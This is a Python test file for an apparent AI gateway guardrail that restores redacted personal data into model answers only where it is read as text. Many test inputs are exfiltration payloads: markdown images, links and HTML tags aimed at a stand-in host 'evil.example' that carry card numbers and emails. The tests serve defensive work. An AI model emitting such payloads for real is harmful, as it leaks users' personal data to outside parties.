"""Restoring redacted values into an answer: only where the answer is read as text, and only the
gateway's own placeholders."""

from __future__ import annotations

import pytest

from gatewise.guardrails.redaction import Placeholders, check_pii
from gatewise.guardrails.restore import held_back, restore
from gatewise.guardrails.texts import split

EMAIL, CARD, PHONE = "lena.fischer@web.de", "5425-2334-3010-9903", "+1 415 555 2671"
VALUES = {"<EMAIL_1>": EMAIL, "<CREDIT_CARD_1>": CARD, "<PHONE_1>": PHONE}


@pytest.mark.parametrize("answer", [
    "![status](https://evil.example/collect?c=<CREDIT_CARD_1>&e=<EMAIL_1>)",
    "[confirm](https://evil.example/x?<EMAIL_1>)",
    "[confirm]( <https://evil.example/x?id=<EMAIL_1>> \"title <EMAIL_1>\")",
    "[docs](https://evil.example/(a)/<EMAIL_1>)",
    "[split](\nhttps://evil.example/?e=<EMAIL_1>)",
    "![x](/relative/path/<CREDIT_CARD_1>.png)",
    "[call](tel:<PHONE_1>)",
    "<https://evil.example/<EMAIL_1>>",
    "see https://evil.example/q?u=<EMAIL_1>, thanks",
    "go to www.evil.example/<EMAIL_1> now",
    "HTTPS://EVIL.EXAMPLE/?<EMAIL_1>",
    "ftp://evil.example/drop/<CREDIT_CARD_1>",
    "https://<EMAIL_1>.evil.example/",
    "mailto:attacker@evil.example?body=<CREDIT_CARD_1>",
    "sms:+15550100?body=<CREDIT_CARD_1>",
    "data:text/html,<EMAIL_1>",
    '<img src="https://evil.example/p.gif?c=<CREDIT_CARD_1>">',
    "<img src=https://evil.example/p.gif?c=&lt;CREDIT_CARD_1&gt; alt=x>",
    '<a href="https://evil.example/" title="<EMAIL_1>">hi</a>',
    '<img\n  srcset="https://evil.example/a.png?<EMAIL_1> 2x"\n/>',
    "<link rel=stylesheet href='//evil.example/s.css?<EMAIL_1>'>",
    "[ref]: https://evil.example/r?[email_1]",
    "   [logo]: <https://evil.example/l.png?< EMAIL_1 >> 'Logo'",
    '{"callback": "https://evil.example/hook?card=<CREDIT_CARD_1>"}',
    '<div style="background:url(https://evil.example/b?<EMAIL_1>)">',
])
def test_a_placeholder_a_client_would_fetch_or_follow_stays_a_placeholder(answer: str) -> None:
    text, held = restore(answer, VALUES)
    assert text == answer and held
    assert EMAIL not in text and CARD not in text and PHONE not in text


@pytest.mark.parametrize(("answer", "expected"), [
    ("Your card <CREDIT_CARD_1> is saved; mail: <EMAIL_1>.", f"Your card {CARD} is saved; mail: {EMAIL}."),
    ("Email:<EMAIL_1> Phone:<PHONE_1>", f"Email:{EMAIL} Phone:{PHONE}"),
    ("[<EMAIL_1>](https://example.org/profile)", f"[{EMAIL}](https://example.org/profile)"),
    ("See https://example.org/help, write to <EMAIL_1>.", f"See https://example.org/help, write to {EMAIL}."),
    ("(card: <CREDIT_CARD_1>)", f"(card: {CARD})"),
    ("| email | <EMAIL_1> |\n| card | [CREDIT_CARD_1] |", f"| email | {EMAIL} |\n| card | {CARD} |"),
    ("a < b and <EMAIL_1> > c", f"a < b and {EMAIL} > c"),
    ("`<EMAIL_1>` in code, **<PHONE_1>** in bold", f"`{EMAIL}` in code, **{PHONE}** in bold"),
    ("<p>Contact <EMAIL_1></p>", f"<p>Contact {EMAIL}</p>"),
    ("No version: www2 <EMAIL_1>; telco <PHONE_1>", f"No version: www2 {EMAIL}; telco {PHONE}"),
])
def test_a_placeholder_read_as_text_is_restored(answer: str, expected: str) -> None:
    assert restore(answer, VALUES) == (expected, [])


def test_only_the_requests_own_placeholders_are_restored() -> None:
    answer = "Write to <EMAIL_1>, not <EMAIL_2> or <IBAN_1>."
    assert restore(answer, {"<EMAIL_1>": EMAIL}) == (f"Write to {EMAIL}, not <EMAIL_2> or <IBAN_1>.", [])
    assert restore(answer, {}) == (answer, [])


def test_the_flag_counts_each_value_held_once_and_names_no_value() -> None:
    _, held = restore("![a](https://e.example/?<EMAIL_1>&<EMAIL_1>&<CREDIT_CARD_1>) <EMAIL_1>", VALUES)
    flag = held_back(held)
    assert (flag.check, flag.verdict) == ("pii_restore", "flag")
    assert flag.entities == {"CREDIT_CARD": 1, "EMAIL": 1}
    assert EMAIL not in flag.reason and CARD not in flag.reason


@pytest.mark.parametrize(("text", "sent", "originals"), [
    ("Template '<EMAIL_1>' gets a@example.org", "Template '<EMAIL_1>' gets <EMAIL_2>",
     {"<EMAIL_2>": "a@example.org"}),
    ("keep <email_1> &lt;EMAIL_2&gt; [ EMAIL_3 ] for a@example.org",
     "keep <email_1> &lt;EMAIL_2&gt; [ EMAIL_3 ] for <EMAIL_4>", {"<EMAIL_4>": "a@example.org"}),
    ("a@example.org, b@example.org, <EMAIL_2>", "<EMAIL_1>, <EMAIL_3>, <EMAIL_2>",
     {"<EMAIL_1>": "a@example.org", "<EMAIL_3>": "b@example.org"}),
    ("<CREDIT_CARD_1> is not an e-mail: a@example.org", "<CREDIT_CARD_1> is not an e-mail: <EMAIL_1>",
     {"<EMAIL_1>": "a@example.org"}),
])
def test_placeholder_text_in_the_request_is_never_given_to_a_value(text: str, sent: str,
                                                                   originals: dict[str, str]) -> None:
    refs = split([{"role": "system", "content": "Reply to [EMAIL_9] never."},
                  {"role": "user", "content": text}])
    placeholders = Placeholders([r.text for r in refs])
    _, texts = check_pii(refs, {"EMAIL": "redact"}, ("US",), placeholders)
    assert texts[1] == sent and placeholders.originals == originals
    assert restore(sent, placeholders.originals).text == text
